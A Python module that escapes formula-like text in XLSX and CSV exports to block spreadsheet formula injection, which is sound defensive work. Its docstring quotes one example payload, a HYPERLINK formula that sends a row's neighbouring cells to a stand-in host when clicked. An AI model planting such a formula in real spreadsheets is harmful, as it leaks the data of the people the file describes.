"""Every spreadsheet and CSV meant for people is written through here, so that no cell becomes a formula.

A spreadsheet program treats text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as
a formula (CSV/DDE injection: ``=HYPERLINK("http://x/?"&D2,"核对")`` sends the row's neighbours away when
clicked). The rule, for every export today and later:

- **XLSX**: such text is written as a *string* cell (openpyxl would otherwise store ``=…`` as a live
  formula); the text itself is unchanged, and Excel shows it as text.
- **CSV**: such text gets the usual leading apostrophe (``'=…``): a CSV has no cell types, so the
  apostrophe is the only way to tell the spreadsheet program it is text.
- **Numbers stay numbers.** Only *text* is escaped: an ``int``/``float``/``Decimal`` (``-3``) is written
  as a number, and text that is a plain decimal number (``-3``, ``+1.5``) is left as it is — it cannot be a
  formula, and an apostrophe would turn a negative amount into text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

__all__ = [
    "FORMULA_TRIGGERS",
    "SafeCsvWriter",
    "append_row",
    "csv_value",
    "is_formula_like",
    "needs_escape",
    "safe_cell",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)")


def is_formula_like(text: str) -> bool:
    """True for text a spreadsheet program would read as a formula (see the module's rule)."""
    return text.startswith(FORMULA_TRIGGERS) and _PLAIN_NUMBER.fullmatch(text) is None


def csv_value(value: Any) -> Any:
    """A CSV field: text that starts like a formula gets a leading apostrophe; anything else as it is."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def needs_escape(values: Iterable[Any]) -> bool:
    """Whether any field of a row would be changed by ``csv_value`` (a quick test for code that copies
    input lines to the output as they are)."""
    return any(isinstance(v, str) and is_formula_like(v) for v in values)


class SafeCsvWriter:
    """``csv.writer`` with every field passed through ``csv_value``: the only CSV writer for exports."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_cell(sheet: Worksheet | WriteOnlyWorksheet, value: Any) -> Cell:
    """An openpyxl cell for ``value`` that is never a formula: text stays a string cell, whatever it starts
    with. Works for normal and write-only worksheets."""
    from openpyxl.cell.cell import Cell

    cell = Cell(sheet, row=1, column=1, value=value)  # placed by append
    if cell.data_type == "f":  # openpyxl makes any text starting with "=" a formula
        cell.data_type = "s"
    return cell


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Sequence[Any]) -> None:
    """Append one row to a worksheet, each value through ``safe_cell``: the only way exports write XLSX."""
    sheet.append([safe_cell(sheet, value) for value in values])
